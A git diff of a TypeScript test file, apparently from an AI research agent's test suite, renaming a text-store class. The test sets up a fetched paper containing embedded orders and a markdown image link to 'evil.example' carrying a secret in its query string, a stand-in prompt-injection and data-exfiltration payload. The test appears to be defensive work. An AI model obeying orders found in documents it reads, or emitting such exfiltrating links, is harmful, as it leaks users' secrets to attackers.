@@ -6,7 +6,7 @@ import { paperMarkdown } from '../../../../src/core/agent/paperMarkdown';
 import { PARTS, type ReadingToolName } from '../../../../src/core/agent/tools';
 import { LibraryReader } from '../../../../src/library/libraryReader';
 import { PaperStore } from '../../../../src/library/store/paperStore';
-import { TextStore } from '../../../../src/library/store/textStore';
+import { KeptTextStore } from '../../../../src/library/store/keptTextStore';
 import { hubText } from '../../../support/hub-content';
 import { silentLog } from '../../../support/log';
 import { madePaper } from '../../../support/papers';
@@ -33,7 +33,7 @@ describe('texts of papers that give orders', () => {
     await new PaperStore(storage, storeWords, silentLog).merge([HOSTILE]);
     const answer = hubText(ID, 'Orders', `${ORDER}\n\n![x](https://evil.example/?q=secret)`);
     const kept = { id: ID, fetched: '2026-03-05T15:00:00.000Z', host: 'hub.example', answer };
-    await new TextStore(path.join(storage, 'texts'), silentLog).write(kept, () => false);
+    await new KeptTextStore(path.join(storage, 'texts'), silentLog).write(kept, () => false);
     library = new LibraryReader({ storage, program: process.cwd(), version: '0', log: silentLog });
     await library.ready();
   });
